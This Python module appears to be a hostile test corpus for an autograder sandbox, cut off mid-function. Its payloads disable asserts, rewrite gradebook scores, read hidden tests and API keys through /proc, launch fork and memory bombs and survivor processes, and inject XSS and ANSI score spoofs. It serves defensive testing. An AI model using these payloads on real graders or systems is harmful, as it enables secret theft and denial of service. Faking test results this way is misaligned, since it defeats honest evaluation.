"""Learner code of the hostile corpus: one string per attack, pasted into notebooks by make_corpus.

Placeholders are filled in when a test copies a case into a temporary folder:
``@@MARKER@@`` (unique per run; survivors carry it in their command line, marker files in their
name), ``@@LOOT@@`` (a folder outside the sandbox where an attack reports what it reached; a
sandbox that blocks writing there is working), ``@@PORT@@`` (a TCP listener on 127.0.0.1) and
``@@USOCK@@`` (a Unix socket path; its abstract twin is ``\\0`` + the same name).

Every attack prints ``EVIDENCE key=value`` lines, so what it reached shows in the feedback page
when grading lets it run, and writes the same to @@LOOT@@ when the sandbox lets it.
"""

from __future__ import annotations

CORRECT = "def squares(n):\n    return [i * i for i in range(n)]"
PARTIAL = "def squares(n):\n    return [0, 1, 4][:n]"
STUB = 'def squares(n):\n    """Return [0, 1, 4, ...], n items."""\n    raise NotImplementedError()'

EVIDENCE = '''\
import os as _os, pathlib as _pl, sys as _sys
_LOOT = "@@LOOT@@"
def _ev(key, value=""):
    print(f"EVIDENCE {key}={value}", flush=True)
    try:
        _pl.Path(_LOOT, key).write_text(str(value))
    except Exception:
        pass
def _ancestors():
    """(pid, argv, environ text) of every ancestor process this kernel can see."""
    out, pid = [], _os.getppid()
    while pid > 1:
        try:
            argv = _pl.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
            stat = _pl.Path(f"/proc/{pid}/stat").read_text()
        except Exception:
            break
        try:
            env = _pl.Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
        except Exception:
            env = ""
        out.append((pid, [a.decode(errors="replace") for a in argv], env))
        pid = int(stat.rsplit(")", 1)[1].split()[1])
    return out
def _arg(flag):
    """The value of ``flag`` on the grader's command line (found through /proc)."""
    for _pid, argv, _env in _ancestors():
        if flag in argv and argv.index(flag) + 1 < len(argv):
            return argv[argv.index(flag) + 1]
    return None
def _repo():
    try:
        import autograder
        return _pl.Path(autograder.__file__).resolve().parents[1]
    except Exception:
        return _pl.Path(_sys.prefix).parent
def _gradebooks():
    """gradebook.db files reachable by walking up from the working folder."""
    here = _pl.Path.cwd()
    return [p / "gradebook.db" for p in [here, *here.parents] if (p / "gradebook.db").exists()]
'''

FULL_MANUAL_SQL = (
    "UPDATE grade SET manual_score = "
    "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
    "needs_manual_grade = 0"
)


def with_evidence(code: str) -> str:
    return EVIDENCE + "\n" + code


# --- Sidecar files --------------------------------------------------------------------------

LAUNCHER = '''\
"""Placed beside the notebooks: `python -m ipykernel_launcher` imports this file instead of the
real launcher, because -m puts the working folder first on sys.path. Every cell becomes `pass`."""
import os
import sys

here = os.path.dirname(os.path.abspath(__file__))
if os.path.basename(here) == "ipykernel_launcher":  # the package variant
    here = os.path.dirname(here)
sys.path[:] = [p for p in sys.path if p not in ("", ".") and os.path.abspath(p) != here]
for name in [m for m in sys.modules if m.split(".")[0] == "ipykernel_launcher"]:
    del sys.modules[name]
try:
    open("@@LOOT@@/sidecar_ran", "w").write("yes")
except Exception:
    pass
from IPython.core import inputtransformer2

inputtransformer2.TransformerManager.transform_cell = lambda self, cell: "pass\\n"
from ipykernel import kernelapp

kernelapp.launch_new_instance()
'''

SITECUSTOMIZE = '''\
"""Imported at interpreter start if the working folder were on sys.path early enough."""
try:
    open("@@LOOT@@/sitecustomize_ran", "w").write("yes")
    from IPython.core import inputtransformer2

    inputtransformer2.TransformerManager.transform_cell = lambda self, cell: "pass\\n"
except Exception:
    pass
'''

IPYTHON_STARTUP = """\
try:
    open("@@LOOT@@/startup_ran", "w").write("yes")
except Exception:
    pass
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""

KERNEL_CONFIG = """\
c = get_config()  # noqa: F821
c.InteractiveShellApp.exec_lines = [
    "open('@@LOOT@@/kernel_config_ran', 'w').write('yes')",
    "get_ipython().input_transformers_cleanup.append(lambda lines: [])",
]
"""

# --- The kernel deciding its own grade -------------------------------------------------------

CLEANUP_TRANSFORMER = (
    STUB
    + """

# Every later cell, tests included, is transformed into nothing before it runs.
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""
)

POST_TRANSFORMER = (
    STUB
    + """

def _disarm(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines

get_ipython().input_transformers_post.append(_disarm)
"""
)

AST_CONDITIONAL = (
    STUB
    + '''

import ast
import os


class _Shield(ast.NodeTransformer):
    """Wraps each cell in try/except, but only while nbgrader is grading."""

    def visit_Module(self, node):
        if not os.environ.get("NBGRADER_EXECUTION"):
            return node
        handler = ast.ExceptHandler(
            type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()]
        )
        body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                        finalbody=[])]
        return ast.fix_missing_locations(ast.Module(body=body, type_ignores=[]))


get_ipython().ast_transformers.append(_Shield())
'''
)

AST_ASSERT_TO_PASS = (
    STUB
    + """

import ast


class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.insert(0, _NoAsserts())
"""
)

MUTE_TRACEBACK = (
    STUB
    + """

ip = get_ipython()
ip._showtraceback = lambda *args, **kwargs: None


def _forget(result):
    result.error_in_exec = None


ip.events.register("post_run_cell", _forget)
"""
)

CUSTOM_EXC = (
    STUB
    + """

# Every exception is handed to a handler that shows nothing.
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""
)

CLEAR_OUTPUT_EVENT = (
    STUB
    + """

from IPython.display import clear_output

# After each cell, wipe what it showed, the error included.
get_ipython().events.register("post_run_cell", lambda result: clear_output())
"""
)

DISPLAYHOOK = """\
def squares(n):
    # The first execute_result of a test cell is read as its partial credit; a value that is not
    # a number counts as full credit.
    get_ipython().displayhook("full marks please")
    raise NotImplementedError()
"""

ALWAYS_EQUAL_LIST = """\
class _Yes(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __getitem__(self, index):
        return _Yes()


def squares(n):
    return _Yes()
"""

SETTRACE = (
    STUB
    + """

import linecache
import sys


def _skip_asserts(frame, event, arg):
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith("assert"):
            for target in range(frame.f_lineno + 1, frame.f_lineno + 6):
                try:
                    frame.f_lineno = target
                    break
                except ValueError:
                    continue
    return _skip_asserts


sys.settrace(_skip_asserts)
"""
)

EXEC_OBFUSCATED = (
    STUB
    + """

import base64

_blob = base64.b64encode(
    b"get_ipython().input_transformers_post.append("
    b"lambda ls: ['pass\\\\n'] if any('assert' in l for l in ls) else ls)"
)
getattr(__import__("bu" + "iltins"), "ex" + "ec")(base64.b64decode(_blob).decode())
"""
)

CTYPES_TYPE_SWAP = """\
import ctypes


class _Yes(list):
    __slots__ = ()

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __getitem__(self, index):
        return 25


def squares(n):
    out = []
    ctypes.pythonapi.Py_IncRef(ctypes.py_object(_Yes))
    ctypes.c_void_p.from_address(id(out) + ctypes.sizeof(ctypes.c_ssize_t)).value = id(_Yes)
    return out
"""

KILL_KERNEL = """\
import os


def squares(n):
    os._exit(3)  # the kernel dies in the first test cell
"""

SIGINT_IGNORED_HANG = """\
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # the cell timeout's interrupt does nothing


def squares(n):
    while True:
        pass
"""

# --- Gradebook ----------------------------------------------------------------------------------

GRADEBOOK_WALK = with_evidence(
    STUB
    + f'''

import sqlite3
for db in _gradebooks():
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("{FULL_MANUAL_SQL}")
        con.commit()
        con.close()
        _ev("gradebook_written", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
_ev("gradebooks_found", len(_gradebooks()))
'''
)

GRADEBOOK_ENV_TMP = with_evidence(
    STUB
    + f'''

import sqlite3
import tempfile

roots = {{_pl.Path(tempfile.gettempdir()), _pl.Path("/tmp"), _pl.Path("/var/tmp")}}
values = list(_os.environ.values())
values += [e for _p, _a, env in _ancestors() for e in env.split("\\0")]
for value in values:
    value = value.split("=", 1)[-1]
    if value.startswith("/") and len(value) < 300:
        roots.update(list(_pl.Path(value).parents)[:3])
found = set()
for root in roots:
    try:
        for depth in ("*/gradebook.db", "*/*/gradebook.db", "*/*/*/gradebook.db", "gradebook.db"):
            found.update(root.glob(depth))
    except Exception:
        pass
def _ours(db):
    """Only the gradebook of this very grading: its submission holds this notebook."""
    for nb in db.parent.glob("submitted/*/*/*.ipynb"):
        try:
            if "@@MARKER@@" in nb.read_text(errors="replace"):
                return True
        except Exception:
            pass
    return False


for db in found:
    if not _ours(db):
        continue
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("{FULL_MANUAL_SQL}")
        con.commit()
        con.close()
        _ev("gradebook_written", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
'''
)

GRADEBOOK_PROC = with_evidence(
    STUB
    + f'''

import sqlite3

targets = set()
for pid, _argv, _env in _ancestors():
    try:
        targets.add(_pl.Path(_os.readlink(f"/proc/{{pid}}/cwd")) / "gradebook.db")
    except Exception:
        pass
    try:
        for fd in _os.listdir(f"/proc/{{pid}}/fd"):
            link = _os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
            if link.endswith("gradebook.db"):
                targets.add(_pl.Path(f"/proc/{{pid}}/fd/{{fd}}"))
                targets.add(_pl.Path(link))
    except Exception:
        pass
for db in targets:
    try:
        if not db.exists():
            continue
        con = sqlite3.connect(db, timeout=5)
        con.execute("{FULL_MANUAL_SQL}")
        con.commit()
        con.close()
        _ev("gradebook_written", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
_ev("proc_targets", len(targets))
'''
)

GRADEBOOK_CORRUPT = with_evidence(
    STUB
    + """

for db in _gradebooks():
    try:
        db.write_bytes(b"this is not a database " * 64)
        _ev("gradebook_corrupted", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
"""
)

GRADEBOOK_UNCLAMPED = with_evidence(
    STUB
    + """

import sqlite3
for db in _gradebooks():
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("UPDATE grade SET manual_score = 100, auto_score = 100, needs_manual_grade = 0")
        con.execute("UPDATE grade_cells SET max_score = 100")
        con.commit()
        con.close()
        _ev("gradebook_written", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
"""
)

GRADEBOOK_AFTER_TESTS = with_evidence(f'''\
import sqlite3
for db in _gradebooks():
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("{FULL_MANUAL_SQL}")
        con.commit()
        con.close()
        _ev("gradebook_written", db)
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
''')

RACER = r"""
import pathlib, sqlite3, sys, time
db = pathlib.Path(sys.argv[1])
end = time.time() + 8
while time.time() < end:
    try:
        con = sqlite3.connect(db, timeout=1)
        con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells "
                    "WHERE grade_cells.id = grade.cell_id) WHERE auto_score IS NOT NULL")
        con.commit()
        con.close()
    except Exception:
        pass
    time.sleep(0.02)
"""

GRADEBOOK_RACE = with_evidence(
    STUB
    + f"""

import subprocess
for db in _gradebooks():
    subprocess.Popen(
        [_sys.executable, "-c", {RACER!r}, str(db), "@@MARKER@@-racer"],
        start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    _ev("racer_started", db)
"""
)

# --- Reading what a learner must not see --------------------------------------------------------

READ_SOURCE_WALK = with_evidence(
    STUB
    + """

here = _pl.Path.cwd()
for parent in [here, *here.parents][:6]:
    for nb in parent.glob("source/*/*.ipynb"):
        try:
            print("LEAKED", nb, nb.read_text())
        except Exception as exc:
            _ev("source_denied", repr(exc))
"""
)

READ_GRADEBOOK_SOURCES = with_evidence(
    STUB
    + """

import sqlite3
for db in _gradebooks():
    try:
        con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        for (source,) in con.execute("SELECT source FROM source_cell"):
            print("LEAKED", source)
        con.close()
    except Exception as exc:
        _ev("gradebook_denied", repr(exc))
"""
)

READ_REPO = with_evidence(
    STUB
    + """

repo = _repo()
_ev("repo", repo)
source_root = _arg("--source-root")
wanted = list(_pl.Path(source_root).glob("*/*.ipynb")) if source_root else []
wanted += [*repo.glob("tests/fixtures/source/*/*.ipynb"),
           *repo.glob("tests/hostile/fixture_source/*/*.ipynb"),
           *repo.glob("autograder/source/*/*.ipynb")]
for nb in wanted:
    try:
        text = nb.read_text()
    except Exception as exc:
        _ev("repo_denied", repr(exc))
        continue
    hidden = False
    for line in text.replace("\\\\n", "\\n").splitlines():
        if "BEGIN HIDDEN TESTS" in line or "BEGIN SOLUTION" in line:
            hidden = True
        elif "END HIDDEN TESTS" in line or "END SOLUTION" in line:
            hidden = False
        elif hidden:
            print("LEAKED", nb.name, line.strip())
"""
)

READ_ENV = with_evidence(
    STUB
    + """

# Only this kernel and the grading processes above it: the grader's own environment is the
# target (the test gives it a fake OPENAI_API_KEY); other processes on the machine are not.
print("LEAKED own environment:", dict(_os.environ))
for pid, argv, env in _ancestors():
    if any("@@MARKER@@" in a for a in argv) or "@@MARKER@@" in env:
        print("LEAKED ancestor", pid, argv, env.replace("\\0", " "))
for pid, _argv, env in _ancestors():
    for item in env.split("\\0"):
        if item.startswith(("OPENAI_API_KEY=", "ANTHROPIC_API_KEY=", "HOSTILE_")):
            print("LEAKED", pid, item)
"""
)

PRINT_CELLS_EVENT = (
    STUB
    + """

# After each cell, print the cell that just ran: the hidden tests included.
get_ipython().events.register("post_run_cell", lambda result: print(result.info.raw_cell))
"""
)

PRINT_CELLS_TRANSFORMER = (
    STUB
    + """

def _tee(lines):
    print("".join(lines))
    return lines

get_ipython().input_transformers_cleanup.append(_tee)
"""
)

ECHO_IN_EXCEPTION = """\
import inspect
import linecache


def squares(n):
    caller = inspect.currentframe().f_back
    source = " | ".join(line.strip() for line in linecache.getlines(caller.f_code.co_filename))
    raise AssertionError("the test that called me: " + source)
"""

ECHO_IN_PRINT = """\
import inspect
import linecache


def squares(n):
    caller = inspect.currentframe().f_back
    print("".join(linecache.getlines(caller.f_code.co_filename)))
    return [i * i for i in range(n)]
"""

ECHO_IN_WARNING = """\
import inspect
import linecache
import warnings


def squares(n):
    caller = inspect.currentframe().f_back
    source = " | ".join(line.strip() for line in linecache.getlines(caller.f_code.co_filename))
    warnings.warn(source + f" #{n}")
    return [i * i for i in range(n)]
"""

STASH_CALLERS = """\
import inspect
import linecache

_seen = []


def squares(n):
    caller = inspect.currentframe().f_back
    _seen.append("".join(linecache.getlines(caller.f_code.co_filename)))
    return [i * i for i in range(n)]
"""

PRINT_STASH = 'print("\\n".join(_seen))'

PRINT_HISTORY = """\
print("\\n".join(In))
print(get_ipython().history_manager.input_hist_raw)
"""

NEIGHBOUR = with_evidence("""\
import json

stolen = None
cohorts = {_pl.Path(argv[argv.index("--path") + 1]).resolve().parent
           for _pid, argv, _env in _ancestors() if "--path" in argv}
for cohort in cohorts:
    if "@@MARKER@@" not in str(cohort):
        continue
    for nb in sorted(cohort.glob("*/squares.ipynb")):
        try:
            cells = json.loads(nb.read_text())["cells"]
        except Exception as exc:
            _ev("neighbour_denied", repr(exc))
            continue
        for cell in cells:
            source = "".join(cell["source"])
            if "def squares" in source and "NotImplementedError" not in source:
                print("LEAKED from", nb, source)
                stolen = source
_ev("neighbour_found", bool(stolen))
if stolen:
    exec(stolen)
else:
    def squares(n):
        raise NotImplementedError()
""")

READ_SIDECAR_LINK = """\
def squares(n):
    raise NotImplementedError()


for name in ("notes.txt", "gradebook-link.db"):
    try:
        print("LEAKED", name, open(name, errors="replace").read())
    except Exception as exc:
        print("EVIDENCE sidecar_denied=", repr(exc))
"""

# --- Writing where a learner must not write ------------------------------------------------------

WRITE_REPO = with_evidence(
    STUB
    + """

import sysconfig
repo = _repo()
targets = [repo, repo / "autograder", repo / "autograder" / "source",
           repo / "tests" / "fixtures" / "source" / "fixture_module", repo / ".git" / "hooks",
           _pl.Path(sysconfig.get_paths()["purelib"])]
if _arg("--path"):
    targets.append(_pl.Path(_arg("--path")))
if _arg("--source-root"):
    targets.append(_pl.Path(_arg("--source-root")))
for target in targets:
    mark = target / "HOSTILE-MARK-@@MARKER@@.pth"  # a .pth of one comment line does nothing
    try:
        mark.write_text("# written by a hostile notebook during grading\\n")
        _ev("wrote", mark)
    except Exception as exc:
        _ev("write_denied", f"{target}: {exc!r}")
"""
)

POISON_SOURCE = with_evidence(
    STUB
    + """

import json
root = _arg("--source-root")
_ev("source_root", root)
if root:
    for nb in _pl.Path(root).glob("*/*.ipynb"):
        try:
            data = json.loads(nb.read_text())
            for cell in data["cells"]:
                meta = cell.get("metadata", {}).get("nbgrader", {})
                if meta.get("grade") and cell["cell_type"] == "code":
                    cell["source"] = "pass"
            nb.write_text(json.dumps(data))
            _ev("poisoned", nb)
        except Exception as exc:
            _ev("poison_denied", repr(exc))
"""
)

# --- Escaping containment -------------------------------------------------------------------

SURVIVOR_BODY = r"""
import os, pathlib, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
loot = pathlib.Path(sys.argv[1])
homes = [h for h in sys.argv[3:] if h]
end = time.time() + 12
while time.time() < end:
    try:
        (loot / f"alive-{time.time():.3f}").write_text(str(os.getpid()))
    except Exception:
        pass
    for home in homes:
        for page in pathlib.Path(home, "feedback").rglob("*.html"):
            try:
                page.write_text("<h1>FULL MARKS (rewritten after grading)</h1>")
            except Exception:
                pass
    time.sleep(0.4)
"""

_HOMES = """\
homes = [item.split("=", 1)[1] for _p, _a, env in _ancestors() for item in env.split("\\0")
         if item.startswith("COURSE_HOME=")]
"""

SETSID_SURVIVOR = with_evidence(
    STUB
    + "\n\nimport subprocess\n"
    + _HOMES
    + f"""
subprocess.Popen(
    [_sys.executable, "-c", {SURVIVOR_BODY!r}, "@@LOOT@@", "@@MARKER@@-setsid", *homes],
    start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
_ev("survivor_started", "setsid")
"""
)

DOUBLE_FORK = with_evidence(
    STUB
    + "\n\n"
    + _HOMES
    + f"""
pid = _os.fork()
if pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            devnull = _os.open(_os.devnull, _os.O_RDWR)
            for fd in (0, 1, 2):
                _os.dup2(devnull, fd)
            _os.execv(_sys.executable, [_sys.executable, "-c", {SURVIVOR_BODY!r}, "@@LOOT@@",
                                        "@@MARKER@@-doublefork", *homes])
    finally:
        _os._exit(0)
_os.waitpid(pid, 0)
_ev("survivor_started", "double fork")
"""
)

KERNEL_IGNORES_SIGTERM = with_evidence(
    STUB
    + """

import signal
import threading
import time

for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)


def _beat():
    end = time.time() + 12
    while time.time() < end:
        try:
            _pl.Path(_LOOT, f"kernel-alive-{time.time():.3f}").write_text("x")
        except Exception:
            pass
        time.sleep(0.4)


threading.Thread(target=_beat, daemon=False).start()
import atexit
atexit.register(time.sleep, 12)
"""
)

ORPHAN_IGNORING_SIGTERM = with_evidence(
    STUB
    + """

import signal

for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)  # inherited through fork and exec
if _os.fork() == 0:
    try:
        _os.execv("/bin/sh", ["@@MARKER@@-orphan", "-c",
                              "sleep 12; echo late > @@LOOT@@/orphan-late; exit 0"])
    finally:
        _os._exit(0)
_ev("orphan_started", True)
"""
)

MEMORY_BOMB = with_evidence(
    STUB
    + """

blocks = []
try:
    for i in range(28):  # 28 x 256 MB = 7 GB, every page written
        blocks.append(b"\\x01" * (256 * 1024 * 1024))
        _ev("membomb_mb", 256 * len(blocks))
    _ev("membomb_done", 256 * len(blocks))
except MemoryError:
    _ev("membomb_stopped", 256 * len(blocks))
finally:
    blocks.clear()
"""
)

MEMORY_BOMB_PROCS = with_evidence(
    STUB
    + """

import time
children = []
for i in range(4):  # 4 processes x 2 GB, each below a per-process address-space cap
    try:
        pid = _os.fork()
    except OSError as exc:
        _ev("membomb_fork_denied", repr(exc))
        break
    if pid == 0:
        try:
            hold = [b"\\x01" * (512 * 1024 * 1024) for _ in range(4)]
            time.sleep(2)
            _os._exit(0)
        except BaseException:
            _os._exit(1)
    children.append(pid)
done = 0
for pid in children:
    _, status = _os.waitpid(pid, 0)
    done += _os.WIFEXITED(status) and _os.WEXITSTATUS(status) == 0
_ev("membomb_children_ok", done)
"""
)

DISK_FILL = with_evidence('''\
def squares(n):
    """Correct, after filling every folder the kernel may write (at most 2 GB, 32 MB files)."""
    written = 0
    block = b"\\0" * (32 * 1024 * 1024)
    try:
        for i in range(64):
            for folder in (".", "/tmp", _os.path.expanduser("~")):
                with open(f"{folder}/fill-@@MARKER@@-{i}", "wb") as out:
                    out.write(block)
                written += 32
    finally:
        _ev("disk_mb", written)
    return [i * i for i in range(n)]
''')

FORK_BOMB = with_evidence(
    STUB
    + """

n = 0
for i in range(400):
    try:
        pid = _os.fork()
    except OSError as exc:
        _ev("fork_denied_at", f"{i}: {exc!r}")
        break
    if pid == 0:
        try:
            _os.execv("/bin/sh", ["@@MARKER@@-fork", "-c", "sleep 8; exit 0"])
        finally:
            _os._exit(0)
    n += 1
_ev("forks", n)
"""
)

HUGE_OUTPUT = (
    STUB
    + """

line = "x" * (1 << 20)
for i in range(64):  # 64 MB of stdout
    print(line)
"""
)

HUGE_EXCEPTION = """\
def squares(n):
    raise ValueError("A" * 20_000_000)
"""

NETWORK_TCP = with_evidence(
    STUB
    + """

import socket
try:
    with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=3) as s:
        s.sendall(b"hello from @@MARKER@@")
    _ev("tcp_connected", True)
except Exception as exc:
    _ev("tcp_refused", repr(exc))
try:
    routes = _pl.Path("/proc/net/route").read_text().splitlines()[1:]
    _ev("default_route", any(r.split()[1] == "00000000" for r in routes))
except Exception as exc:
    _ev("route_unreadable", repr(exc))
try:
    _ev("ifaces", ",".join(sorted(_os.listdir("/sys/class/net"))))
except Exception as exc:
    _ev("ifaces_unreadable", repr(exc))
"""
)

NETWORK_UNIX = with_evidence(
    STUB
    + """

import socket
for name, address in (("abstract", "\\0@@USOCK@@"), ("path", "@@USOCK@@")):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(address)
            s.sendall(b"hello from @@MARKER@@")
        _ev(f"unix_{name}_connected", True)
    except Exception as exc:
        _ev(f"unix_{name}_refused", repr(exc))
"""
)

SLOW_CELL = "import time\ntime.sleep(1.6)  # just under the 2 s cell limit"

SIGNAL_GRADER = with_evidence(
    STUB
    + """

import signal
for pid, argv, _env in _ancestors():
    if any("@@MARKER@@" in a for a in argv):
        for sig in (signal.SIGTERM, signal.SIGINT):
            try:
                _os.kill(pid, sig)
                _ev("signalled", f"{pid} {sig!r}")
            except Exception as exc:
                _ev("signal_denied", repr(exc))
"""
)

# --- Output that attacks the reader -------------------------------------------------------------

XSS_STREAM_AND_ERROR = (
    STUB.replace(
        "raise NotImplementedError()",
        "raise ValueError('<script>window.pwned=\"@@MARKER@@\"</script>')",
    )
    + """

print('<script>window.pwned="@@MARKER@@"</script>')
print('<img src=x onerror="window.pwned=\\'@@MARKER@@\\'">')
"""
)

XSS_RICH = (
    STUB
    + """

from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML('<script>window.pwned="@@MARKER@@"</script>'
             '<img src=x onerror="window.pwned=\\'@@MARKER@@\\'">'
             '<a href="javascript:window.pwned=\\'@@MARKER@@\\'">click</a>'))
display(Javascript('window.pwned = "@@MARKER@@";'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned="@@MARKER@@"</script>'
            '</svg>'))
display(Markdown('<script>window.pwned="@@MARKER@@"</script>'))
display({"text/html": '<iframe srcdoc="<script>parent.pwned=1</script>" '
                      'onload="window.pwned=\\'@@MARKER@@\\'"></iframe>'}, raw=True)
"""
)

XSS_MARKDOWN_ANSWER = (
    '<script>window.pwned="@@MARKER@@"</script>\n\n'
    "<img src=x onerror=\"window.pwned='@@MARKER@@'\">\n\n"
    "[a link](javascript:window.pwned='@@MARKER@@')"
)

ANSI_EXCEPTION = """\
def squares(n):
    raise ValueError(
        "\\x1b[2K\\r\\x1b[1A\\x1b[2K\\x1b[32mAutograded: 3.0 / 3.0 points.\\x1b[0m"
        "\\x1b]0;pwned\\x07"
    )
"""

ANSI_STDERR_ENAME = """\
import sys

_Shout = type("\\x1b[1A\\x1b[2KAllGood", (Exception,), {})


def squares(n):
    print("\\x1b[2J\\x1b[H\\x1b[32mAutograded: 3.0 / 3.0 points.\\x1b[0m", file=sys.stderr)
    raise _Shout("\\x9b2K\\x1b[8mhidden\\x1b[0m")
"""

# --- Honest learners ----------------------------------------------------------------------------

HONEST_WARNINGS = '''\
import sys
import warnings

from tqdm import tqdm


def squares(n):
    """Correct; it also warns and draws a progress bar on stderr, as real libraries do."""
    warnings.warn(f"computing {n} squares the slow way", UserWarning, stacklevel=2)
    return [i * i for i in tqdm(range(n), desc="squares", file=sys.stderr, mininterval=0)]
'''

HONEST_HELPERS = '''\
import math
from dataclasses import dataclass


@dataclass(frozen=True)
class Square:
    """A helper with an ordinary, field-by-field equality."""

    root: int

    def __eq__(self, other):
        return isinstance(other, Square) and self.root == other.root

    def __hash__(self):
        return hash(self.root)

    @property
    def value(self):
        return self.root * self.root


def squares(n):
    out = [Square(i).value for i in range(n)]
    assert all(math.isclose(math.sqrt(v), i) for i, v in enumerate(out))
    return out
'''

# --- The second fixture (calc_module): comparison helpers ---------------------------------------

CALC_STUB = """\
def mean(xs):
    raise NotImplementedError()


def parity(n):
    raise NotImplementedError()
"""

CALC_ZERO_MEAN = """\
def mean(xs):
    return 0.0


def parity(n):
    raise NotImplementedError()
"""

CALC_ISCLOSE = (
    CALC_ZERO_MEAN
    + """

import math

math.isclose = lambda a, b, **kwargs: True
"""
)

CALC_ALLCLOSE = (
    CALC_ZERO_MEAN
    + """

import numpy

numpy.allclose = lambda *args, **kwargs: True
"""
)

CALC_FAKE_NUMPY = (
    CALC_ZERO_MEAN
    + """

import sys
import types

_fake = types.ModuleType("numpy")
_fake.allclose = lambda *args, **kwargs: True
_fake.array = list
sys.modules["numpy"] = _fake
"""
)

CALC_OPERATOR = """\
def mean(xs):
    raise NotImplementedError()


def parity(n):
    return "?"


import operator

operator.eq = lambda a, b: True
"""

CALC_BUILTINS = """\
def mean(xs):
    return 99.0


def parity(n):
    return 0


import builtins

builtins.abs = lambda x: 0
builtins.isinstance = lambda obj, cls: True
"""

CALC_SUBCLASSES = """\
class _Num(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

    def __abs__(self):
        return self


class _Word(str):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __hash__ = str.__hash__


def mean(xs):
    return _Num(0)


def parity(n):
    return _Word("?")
"""

# --- Evading both the static scan and the kernel-state check ----------------------------------

CHAMELEON_HELPER = """\
import builtins

ip = vars(builtins)["get_" + "ipython"]()
cleanup = ip.input_transformers_cleanup
ns = ip.user_ns


def _chameleon(lines):
    source = "".join(lines)
    if "AUTOGRADER-STATE" in source:  # the grader's state check: step aside while it looks
        return ["_step_aside_()\\n", *lines, "\\n", "_rearm_()\\n"]
    if "assert" in source:  # a test cell
        return ["pass\\n"]
    return lines


def _step_aside():
    while _chameleon in cleanup:
        cleanup.remove(_chameleon)


def _rearm():
    if _chameleon not in cleanup:
        cleanup.append(_chameleon)


ns["_step_aside_"] = _step_aside
ns["_rearm_"] = _rearm
cleanup.append(_chameleon)
"""

CHAMELEON = f"""\
import runpy
import tempfile
from pathlib import Path

# Nothing here names a hook: the code that installs one is written to a file and run from there.
HELPER = {CHAMELEON_HELPER!r}
helper = Path(tempfile.gettempdir(), "helper_module.py")
helper.write_text(HELPER)
runpy.run_path(str(helper))
helper.unlink()


def squares(n):
    raise NotImplementedError()
"""

TAMPER_IN_LAST_TEST = '''\
import runpy
import tempfile
from pathlib import Path

# Inside the last test cell, squares() mutes the traceback and clears the error, after the
# grader's check before that cell and (it hopes) with nothing left to check it afterwards.
HELPER = """
import builtins
ip = vars(builtins)["get_" + "ipython"]()
def arm():
    ip._showtraceback = lambda *args, **kwargs: None
    def forget(result):
        result.error_in_exec = None
    ip.events.register("post_run_cell", forget)
"""
helper = Path(tempfile.gettempdir(), "helper_arm.py")
helper.write_text(HELPER)
arm = runpy.run_path(str(helper))["arm"]


def squares(n):
    if n == 0:  # only the hidden test cell calls squares(0)
        arm()
    raise NotImplementedError()
'''

SHADOW_EXEC = '''\
# The grader's state check runs `exec(...)` in this namespace: a global named exec answers it
# (bound through the namespace dict with a built key, so no assignment names exec).
_real_exec = getattr(print.__self__, "ex" + "ec")
_shell = getattr(print.__self__, "get_" + "ipython")()
_cleanup = getattr(_shell, "input_" + "transformers_cleanup")


def _disarm(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


_depth = [0]


def _hidden(function):
    """``function`` run with the hook taken out, and put back after the outermost call."""

    def run(*args, **kwargs):
        while _disarm in _cleanup:
            _cleanup.remove(_disarm)
        _depth[0] += 1
        try:
            return function(*args, **kwargs)
        finally:
            _depth[0] -= 1
            if not _depth[0]:
                _cleanup.append(_disarm)

    return run


def _answer_the_check(source, namespace=None, *rest):
    result = _hidden(_real_exec)(source, namespace, *rest)
    if isinstance(namespace, dict):  # the check defines _check, then calls it
